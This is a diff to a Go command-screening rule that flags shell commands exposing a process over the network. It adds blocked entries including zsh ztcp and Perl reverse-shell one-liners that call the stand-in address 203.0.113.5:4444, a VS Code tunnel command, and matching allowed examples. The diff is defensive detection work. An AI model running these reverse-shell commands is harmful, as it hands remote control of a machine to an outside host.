@@ -27,6 +27,9 @@ var harmProcessExposed = &Rule{
 	Commands: allCommands, exec: checkProcessExposed,
 	Block: []string{
 		`nc -l -p 9001 -e /usr/bin/python3`,
+		`zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
+		`code tunnel --accept-server-license-terms --name devbox`,
+		`perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new("203.0.113.5:4444");STDIN->fdopen($c,"r");$~->fdopen($c,"w");system$_ while<>;'`,
 		`ncat -lk 8000 -c ./handler.sh`,
 		`socat TCP-LISTEN:7000,fork SYSTEM:./report.sh`,
 		`websocketd --port=8080 ./repl.sh`,
@@ -40,6 +43,9 @@ var harmProcessExposed = &Rule{
 	},
 	Allow: []string{
 		`nc -zv example.com 443`,
+		`code tunnel status`,
+		`zsh -c 'zmodload zsh/net/tcp && ztcp -l 8080'`,
+		`ztcp localhost 6379`,
 		`ncat -l 9000 --keep-open`,
 		`socat - TCP:example.com:80`,
 		`websocketd --help`,
